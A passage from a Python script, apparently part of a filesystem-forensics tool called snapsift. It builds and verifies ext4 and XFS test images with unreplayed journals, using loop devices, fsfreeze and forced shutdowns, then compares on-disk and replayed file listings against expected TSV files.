        out.append("xfs_logprint -t: exit %d, %s; %d log records (cycle %s, blocks %s..%s), %d transactions; items: %s; "
                   "%d cancelled buffer(s)" % (p.returncode, head[0] if head else "no head/tail", len(recs),
                                              "/".join(sorted({c for c, _ in recs})) or "-", recs[0][1] if recs else "-",
                                              recs[-1][1] if recs else "-", len(tids),
                                              ", ".join("%s %d" % kv for kv in sorted(items.items()) if kv[0] != "TRANS"),
                                              cancelled))
        return out
    if not shutil.which("dumpe2fs", path=PATH):
        return ["dumpe2fs/debugfs not installed"]
    h = run(["dumpe2fs", "-h", img], ok=(0, 1))
    for l in h.splitlines():
        if l.startswith(("Filesystem features", "Journal ", "Total journal", "Max transaction", "Fast commit")):
            out.append(l.strip())
    p = subprocess.run(["debugfs", "-R", "logdump", img], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, env=ENV)
    text = p.stdout.decode(errors="replace")
    seqs = [int(s) for s in re.findall(r"Found expected sequence (\d+), type 1 \(descriptor block\)", text)]
    commits = re.findall(r"sequence (\d+), type 2 \(commit block\)", text)
    revokes = re.findall(r"sequence (\d+), type 5 \(revoke table\)", text)
    end = [l.strip() for l in text.splitlines() if "end of journal" in l or "No magic number" in l][-1:]
    out.append("debugfs logdump: %d commit blocks (sequences %s), %d descriptor blocks, %d revoke blocks; %s" % (
        len(commits), "%s..%s" % (commits[0], commits[-1]) if commits else "-", len(seqs), len(revokes),
        end[0] if end else ""))
    return out


# ---------------------------------------------------------------------------
# build / check
# ---------------------------------------------------------------------------
def build_one(name, spec, work):
    kind, host = spec["kind"], spec["host"]
    img = os.path.join(work, name + ".live.img")
    B.pattern_file(img, spec["size"])
    run(spec["mkfs"] + [img], env=spec["env"])
    t, files, links = baseline(host, seed=sum(map(ord, name)))
    snap = os.path.join(work, name + ".img")
    mnt = os.path.join(work, "mnt-live")
    with attached(img) as dev:
        with mounted(dev, mnt, kind, "noatime") as m:
            write_tree(m, files, links)
            os.sync()
            run(["fsfreeze", "-f", m])
            run(["fsfreeze", "-u", m])
            before, err = listing(m)
            t0 = time.monotonic()
            scenario(m, host, t)
            after, err2 = listing(m)
            if err or err2:
                raise SystemExit("%s: live mount read errors: %s" % (name, err + err2))
            run(["xfs_io", "-x", "-c", "shutdown -f", m])
            copy_sparse(img, snap)  # before unmounting: unmounting a shut-down ext4 may still write
            took = time.monotonic() - t0
    print("  scenario to snapshot copy: %.2f s" % took)
    os.unlink(img)
    disk, rep, notes = views(snap, kind, work)
    problems = same_rows("on-disk view vs the live mount after fsfreeze", before, disk) \
        + same_rows("replayed view vs the live mount after the scenario", after, rep) \
        + scenario_problems(disk, rep) + debugfs_problems(snap, kind, disk, work)
    return snap, disk, rep, notes, problems


def report(name, kind, img, disk, rep, notes):
    print("  files that differ between the views (%d on disk, %d replayed):" % (len(disk), len(rep)))
    for l in diff_report(disk, rep):
        print(l)
    for n in notes:
        print("  " + n)
    for l in journal_stats(img, kind):
        print("  " + l)


def loop_works():
    if not shutil.which("losetup", path=PATH):
        return False
    with tempfile.NamedTemporaryFile(prefix="snapsift-loop-probe-", dir="/tmp") as f:
        f.truncate(MiB)
        f.flush()
        p = subprocess.run(["losetup", "--show", "-f", "-r", f.name], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, env=ENV)
        dev = p.stdout.decode().strip()
        if p.returncode != 0 or not dev:
            return False
        subprocess.run(["losetup", "-d", dev], stderr=subprocess.DEVNULL, env=ENV)
    return True


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--check", action="store_true")
    ap.add_argument("--keep", action="store_true")
    ap.add_argument("--only", default="")
    a = ap.parse_args()
    names = [n for n in IMAGES if not a.only or n.split("-", 1)[1] in a.only.split(",")]

    if os.geteuid() != 0:
        print("build-journal.py: skipped: needs root (loop devices and mounts)")
        sys.exit(0 if a.check else 2)
    if not loop_works():
        print("build-journal.py: skipped: loop devices unavailable (cannot attach a file with losetup)")
        sys.exit(0 if a.check else 2)
    fss = open("/proc/filesystems").read().split()
    need = ["mount", "umount", "losetup", "cp"] + ([] if a.check else ["fsfreeze", "xfs_io", "mke2fs", "mkfs.xfs", "dumpe2fs", "debugfs"])
    for tool in need:
        if not shutil.which(tool, path=PATH):
            raise SystemExit("build-journal.py: missing tool %s (util-linux, e2fsprogs, xfsprogs)" % tool)

    work = tempfile.mkdtemp(prefix="snapsift-journal-", dir="/tmp")
    rc = 0
    try:
        for name in names:
            spec = IMAGES[name]
            kind = spec["kind"]
            if ("xfs" if kind == "xfs" else "ext4") not in fss:
                subprocess.run(["modprobe", "xfs" if kind == "xfs" else "ext4"], stderr=subprocess.DEVNULL)
                if ("xfs" if kind == "xfs" else "ext4") not in open("/proc/filesystems").read().split():
                    print("%s: skipped: the kernel has no %s driver" % (name, kind))
                    continue
            print("%s:" % name)
            w = os.path.join(work, name)
            os.makedirs(w)
            tsv_rep = os.path.join(here, "expected", name + ".tsv")
            tsv_disk = os.path.join(here, "expected", name + ".on-disk.tsv")
            gz = os.path.join(here, name + ".img.gz")
            if a.check:
                if not os.path.exists(gz):
                    print("  %s missing" % gz)
                    rc = 1
                    continue
                img = os.path.join(w, name + ".img")
                with gzip.open(gz, "rb") as g, open(img, "wb") as f:
                    shutil.copyfileobj(g, f, MiB)
                disk, rep, notes = views(img, kind, w)
                problems = scenario_problems(disk, rep) + debugfs_problems(img, kind, disk, w)
                text_rep, text_disk = render_pair(disk, rep)
                for path, text in ((tsv_rep, text_rep), (tsv_disk, text_disk)):
                    old = open(path).read() if os.path.exists(path) else ""
                    if old != text:
                        rc = 1
                        sys.stdout.writelines(difflib.unified_diff(old.splitlines(True), text.splitlines(True),
                                                                   path, "kernel's view of " + os.path.basename(gz)))
                report(name, kind, img, disk, rep, notes)
                for pr in problems:
                    print("  PROBLEM: " + pr)
                rc |= 1 if problems else 0
                print("  %s: listings %s" % (name, "match" if not problems and rc == 0 else "DIFFER"))
                os.unlink(img)
                continue
            img, disk, rep, notes, problems = build_one(name, spec, w)
            report(name, kind, img, disk, rep, notes)
            if problems:
                print("\n".join("  PROBLEM: " + p for p in problems))
                raise SystemExit("%s: the journal/log did not carry the scenario's changes (or something was "
                                 "written home); nothing written to images/. Rerun; if it persists, see the "
                                 "docstring, step 4." % name)
            text_rep, text_disk = render_pair(disk, rep)
            open(tsv_rep, "w", newline="\n").write(text_rep)
            open(tsv_disk, "w", newline="\n").write(text_disk)
            B.gzip_to(img, gz)
            print("  wrote %s (%d bytes), %s, %s" % (os.path.relpath(gz), os.path.getsize(gz),
                                                     os.path.relpath(tsv_rep), os.path.relpath(tsv_disk)))
            print("  volumes row: %s\t0\t%d\t%s\t%s\tyes\t%s\tnone\t512" % (
                name, spec["size"], kind, spec["host"], spec["host"]))
    finally:
        if a.keep:
            print("work dir kept: " + work)
        else:
            shutil.rmtree(work, ignore_errors=True)
    if a.check:
        print("journal images: %s" % ("DIFFER" if rc else "match"))
    sys.exit(rc)


if __name__ == "__main__":
    main()
